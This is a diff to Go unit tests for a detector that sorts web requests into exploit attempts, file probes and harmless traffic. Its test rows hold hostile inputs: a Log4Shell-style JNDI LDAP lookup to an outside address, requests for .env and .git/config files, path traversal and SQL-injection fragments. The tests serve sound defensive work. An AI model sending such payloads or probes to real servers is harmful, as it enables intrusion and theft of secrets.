@@ -40,7 +40,9 @@ func TestSignaturesClassify(t *testing.T) {
 		{"GET", "/?x=${jndi:ldap://198.51.100.1/a}", "Mozilla/5.0", 200, SigExploit, "java", false},
 		{"GET", "/.env", "Mozilla/5.0", 404, SigProbe, "restricted-file", false},
 		{"HEAD", "/.git/config", "", 301, SigProbe, "restricted-file", false},
-		{"GET", "/backup/db.sql", "Mozilla/5.0", 404, SigProbe, "restricted-extension", false},
+		{"GET", "/backup/.db.sql", "Mozilla/5.0", 404, SigProbe, "restricted-extension", false},
+		// A plain path is left to the lists: no CRS check.
+		{"GET", "/backup/db.sql", "Mozilla/5.0", 404, SigNone, "", false},
 		// Served, a plain path is the site's content: not checked.
 		{"GET", "/misc/sample.log", "Mozilla/5.0", 200, SigNone, "", false},
 		// MJ12bot on the Elastic log: a page's unexpanded template.
@@ -69,11 +71,11 @@ func TestNeedsCheck(t *testing.T) {
 		{"/..%2f", 200, true},
 		{"/x?id=1'", 200, true},
 		{"/x?id=1+or+1", 200, true},
-		{"/phpinfo.php", 404, true},
-		{"/phpinfo.php", 200, false},
+		{"/phpinfo.php", 404, false},
 		{"/img/logo.png", 404, false},
 		{"/img/logo.PNG?v=1", 404, false},
-		{"/app.js.bak", 404, true},
+		{"/wp-login.php?action=register", 404, false},
+		{"/a?b=c+d", 200, true},
 	} {
 		if got := NeedsCheck(c.target, c.status); got != c.want {
 			t.Errorf("NeedsCheck(%q, %d) = %v, want %v", c.target, c.status, got, c.want)
